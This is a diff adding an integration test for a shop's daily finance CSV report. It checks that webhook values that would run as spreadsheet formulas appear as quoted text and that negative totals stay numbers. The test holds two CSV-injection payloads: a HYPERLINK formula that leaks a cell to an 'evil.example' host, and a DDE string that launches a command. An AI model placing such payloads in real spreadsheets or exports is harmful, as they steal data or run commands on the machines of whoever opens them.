@@ -10,6 +10,7 @@ from __future__ import annotations
 
 import csv
 import io
+import re
 from datetime import UTC, datetime
 from typing import Any
 from zoneinfo import ZoneInfo
@@ -22,6 +23,7 @@ from tests.integration.shop import new_codes, notify, order, pay, run_schedule, 
 
 SHANGHAI = ZoneInfo("Asia/Shanghai")
 BOM = b"\xef\xbb\xbf"
+NUMBER = re.compile(r"[+-]?[0-9]+(?:\.[0-9]+)?")
 
 
 def shanghai(text: str) -> datetime:
@@ -246,6 +248,56 @@ def test_mismatches_unmatched_and_differing_payments_and_a_lost_payment_record(
     assert differs["transaction_id"].startswith("txn_")
     # The money that did arrive is in the totals: the ghost's 800, the short 700 and the full 800.
     assert report["total"][-1]["payment_amount"] == "2300"
+
+
+def test_provider_text_that_would_run_as_a_formula_is_neutralised_and_negative_amounts_stay_numbers(
+    stack: dict[str, Any], public: Api, operator: Api, finance: Api, new_sku: str
+) -> None:
+    """CSV injection: a verified payment names an order `=HYPERLINK(...)` (and a transaction id
+    that is a DDE formula); the finance sheet shows them as text. A day whose refund exceeds its
+    payments has a negative net, which stays a number."""
+    stocked_product(operator, new_sku, new_codes(1), price=1990)
+    day = shanghai("2026-01-14T10:00:00")
+    evil_order = '=HYPERLINK("https://evil.example/?leak="&A1,"details")'
+    evil_txn = f"-2+3+cmd|' /C calc'!A0 {new_sku}"
+    ghost = {"order_id": evil_order, "payment": {"payment_id": "sbx_ghost"}, "amount": 800}
+    answer = notify(stack, webhook_body({**ghost, "currency": "CNY"}, transaction_id=evil_txn))
+    assert (answer.status_code, answer.json()["code"]) == (404, "UNKNOWN_ORDER")
+    backdate(stack, ghost, day)
+    # Paid the day before, refunded on the day: the day's net is 800 - 1990 = -1190.
+    refunded = paid_order(stack, public, new_sku)
+    assert operator.post(f"/v1/admin/orders/{refunded['order_id']}/refund", {"reason": "test"}).status_code == 200
+    backdate(stack, refunded, day)
+    ddb = aws(stack, "dynamodb")
+    table = stack["resources"]["OrdersTable"]
+    payment = ddb.scan(
+        TableName=table,
+        FilterExpression="order_id = :o AND #k = :p",
+        ExpressionAttributeNames={"#k": "kind"},
+        ExpressionAttributeValues={":o": {"S": refunded["order_id"]}, ":p": {"S": "payment"}},
+    )["Items"][0]
+    before = shanghai("2026-01-13T10:00:00").astimezone(UTC)
+    index_pk, index_sk = money_keys(before, payment["transaction_id"]["S"])
+    _set(
+        ddb,
+        table,
+        payment["pk"]["S"],
+        payment["sk"]["S"],
+        {"at": before.strftime("%Y-%m-%dT%H:%M:%S.%f+0000"), "gsi1pk": index_pk, "gsi1sk": index_sk},
+    )
+
+    run_at(stack, "DailyReport", "2026-01-15T00:10:00")
+    raw = download(finance, "daily-2026-01-14")
+    report = sections(raw)
+    ghost_row = next(r for r in report["movement"] if r["type"] == "payment")
+    assert (ghost_row["order_id"], ghost_row["transaction_id"]) == ("'" + evil_order, "'" + evil_txn)
+    unmatched = next(m for m in report["mismatch"] if m["kind"] == "payment_without_order")
+    assert (unmatched["order_id"], unmatched["transaction_id"]) == ("'" + evil_order, "'" + evil_txn)
+    cells = [cell for row in csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")) for cell in row]
+    runnable = [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r")) and not NUMBER.fullmatch(c)]
+    assert runnable == []
+    assert report["total"][0]["net_amount"] == "-1190"  # a number, not the text '-1190
+    assert (report["total"][0]["payment_amount"], report["total"][0]["refund_amount"]) == ("800", "1990")
 
 
 def test_rerunning_a_period_rewrites_the_same_file(
